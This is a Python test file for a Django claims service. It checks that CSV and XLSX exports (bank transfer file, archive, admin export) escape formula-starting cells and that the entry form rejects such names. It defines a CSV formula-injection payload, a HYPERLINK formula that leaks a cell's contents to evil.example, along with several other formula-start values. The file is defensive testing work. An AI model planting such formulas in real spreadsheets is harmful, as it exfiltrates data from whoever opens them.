"""No CSV or XLSX the service writes holds a cell a spreadsheet would run as a formula,
and names that begin like a formula are refused where they are typed."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from santunan.exports import archive_workbook
from santunan.finance.bankfile import TransferRow, transfer_csv
from santunan.models import Claim
from santunan.services import ClaimError, create_claim
from santunan.spreadsheets import FORMULA_STARTS, csv_text, xlsx_workbook
from tests.santunan.factories import draft_claim
from villages.admin import DesaResource
from villages.models import Desa

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
HOSTILE = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def assert_no_formula_in_csv(text: str, delimiter: str = ",") -> None:
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def assert_no_formula_in_xlsx(data) -> None:
    workbook = load_workbook(data if not isinstance(data, bytes) else io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value


@pytest.mark.parametrize("value", HOSTILE)
def test_the_writer_neutralises_every_formula_start_in_csv_and_xlsx(value):
    assert_no_formula_in_csv(csv_text(["nama"], [[value]]))
    workbook = xlsx_workbook("data", ["nama"], [[value]])
    assert_no_formula_in_xlsx(workbook)
    # (XML reads a carriage return back as a line feed.)
    assert load_workbook(io.BytesIO(workbook)).active["A2"].value == "'" + value.replace("\r", "\n")


def test_numbers_and_plain_text_are_written_as_they_are():
    assert csv_text(["a", "b"], [[1000000, "Siti"]]) == "a,b\r\n1000000,Siti\r\n"


def test_the_bank_transfer_file_keeps_a_hostile_holder_name_as_text(settings):
    text = transfer_csv(
        [
            TransferRow(
                account="1234567890", holder=EVIL, amount=1_000_000, reference="SKM-1", bank="BRI"
            )
        ]
    )

    assert_no_formula_in_csv(text, settings.BANK_CSV_DELIMITER)
    assert "'" + EVIL.replace('"', '""') in text


def test_the_archive_export_keeps_hostile_names_as_text(operator_a):
    claim = draft_claim(operator_a, documents=False)
    # Stored before the entry rule existed, or through a path that skipped it.
    Claim.objects.filter(pk=claim.pk).update(deceased_name=EVIL, heir_name="@cmd")

    assert_no_formula_in_xlsx(archive_workbook(Claim.objects.filter(pk=claim.pk)))


def test_the_admin_export_neutralises_text(wilayah):
    Desa.objects.filter(pk="33.25.01.2001").update(name=EVIL)

    dataset = DesaResource().export()

    assert_no_formula_in_csv(dataset.csv)
    assert "'" + EVIL in dataset.csv.replace('""', '"')


@pytest.mark.parametrize("field", ["deceased_name", "heir_name", "bank_account_holder"])
def test_a_name_beginning_like_a_formula_is_refused_by_the_service(operator_a, field):
    with pytest.raises(ClaimError) as refused:
        create_claim(user=operator_a, data={"deceased_name": "Slamet", field: EVIL})

    assert "tidak boleh diawali" in refused.value.message
    assert not Claim.objects.exists()


def test_a_name_beginning_like_a_formula_is_refused_by_the_form(client_for, operator_a):
    response = client_for(operator_a).post(reverse("santunan:claim_new"), {"deceased_name": EVIL})

    assert response.status_code == 200
    assert "Nama tidak boleh diawali" in response.content.decode()
    assert not Claim.objects.exists()
